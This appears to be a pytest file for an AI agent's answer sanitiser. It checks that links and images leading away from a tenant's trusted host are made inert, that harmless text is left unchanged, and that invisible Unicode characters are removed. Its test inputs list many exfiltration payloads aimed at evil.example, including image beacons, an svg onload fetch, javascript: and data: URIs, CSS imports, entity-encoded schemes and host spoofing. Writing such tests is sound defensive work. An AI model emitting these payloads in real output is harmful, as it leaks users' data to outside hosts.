"""Nothing in an answer is fetched or can be followed but links to the tenant's hosts."""

import pytest

from agent.answer.links import inert, seen
from tests.isolation.watching import live_links

HOSTS = frozenset({"shop.trusted.example"})
AWAY = "https://evil.example/c?d=1"


@pytest.mark.parametrize(
    "text",
    [
        f"[here]({AWAY})", f"[here](<{AWAY}>)", f'[here]({AWAY} "a title")', f"[here]( {AWAY} )", f"[here\nthere]({AWAY})",
        f"![a picture]({AWAY})", f"[![a picture]({AWAY})](https://shop.trusted.example/)", f"<{AWAY}>", f"See {AWAY}.",
        f"**{AWAY}**", f"[x][y]\n\n[y]: {AWAY}", f"![][y]\n\n[y]: <{AWAY}> 'title'", f"[y]\n\n   [y]:\n{AWAY}",
        f"<img src='{AWAY}'>", f"<a href={AWAY}>x</a>", f"<svg onload=fetch('{AWAY}')>", f"<!-- {AWAY}\n--> {AWAY}",
        f"<style>@import '{AWAY}'</style>", "www.evil.example/c", "//evil.example/c", "[x](//evil.example/c)",
        "[x](mailto:drop@evil.example?body=1)", "[x](javascript:fetch('//evil.example'))", "[x](data:text/html;base64,PA==)",
        "https&#58;//evil.example/c", "https&amp;#58;//evil.example/c", "&lt;img src=//evil.example&gt;", "&#119;ww.evil.example",
        "&#96;a&#96; https&colon;//evil.example `b`",
        "[x](&#106;avascript:alert(1))", "[x](https&colon;//evil.example)", "[x](/away)", "[x](evil.example)", "[x]()",
        "https://shop.trusted.example@evil.example/", "https://shop.trusted.example.evil.example/",
        "[x](https://shop.trusted.example\\@evil.example/)", "[x](https://shop.trusted.example&#46;evil.example/)",
        "http://shop.trusted.example/", "https://shop.trusted.example:8443/", "ftp://shop.trusted.example/",
        f"`code` {AWAY} `code`", f"``a ` b`` [x]({AWAY})", f"a ` b\n\nc ` [x]({AWAY})", f"- [x]({AWAY})\n- {AWAY}",
        f"| a |\n|---|\n| [x]({AWAY}) |", f"> {AWAY}", f"[a](b](c)({AWAY})", f"[x]({AWAY}\n'title')",
    ],
)  # fmt: skip
def test_what_leads_away_is_dead(text: str) -> None:
    assert live_links(text, HOSTS)
    assert live_links(inert(text, HOSTS), HOSTS) == []


@pytest.mark.parametrize(
    "text",
    [
        "See [the shop](https://shop.trusted.example/a?b=1#c).", "https://shop.trusted.example/help", "2 < 3 and 4 > 3",
        "<https://shop.trusted.example/>", "`curl https://evil.example`", "```\nGET https://evil.example\n```\n",
        "A mailbox is reset in the panel. [1]", "Write to help@shop.example", "either/or, 10/100 and a: b", "[1] [2]",
        "1. First\n2. Second\n", "Data: none. File: none.", "Terms & conditions", "`&amp;` and `a&#58;b`",
    ],
)  # fmt: skip
def test_what_does_not_stays_as_it_is(text: str) -> None:
    assert inert(text, HOSTS) == text


def test_an_address_can_still_be_read() -> None:
    assert inert("Sign in at https://panel.example:2083.", frozenset()) == "Sign in at `https://panel.example:2083`."
    assert inert("Replace <your domain> by yours.", frozenset()) == "Replace `<your domain>` by yours."


def test_a_long_text_takes_no_long_time() -> None:
    for piece in ("![", "](", "<", "`", "[a](", "//", "https://a ", "[x]: ", "](((", "``` "):
        assert inert(piece * 20_000, frozenset()) is not None


def test_letters_that_nobody_sees_go() -> None:
    hidden = "".join(chr(0xE0000 + ord(char)) for char in "secret")
    assert seen(f"Re\u200bset{hidden} it\u202e now") == "Reset it now"
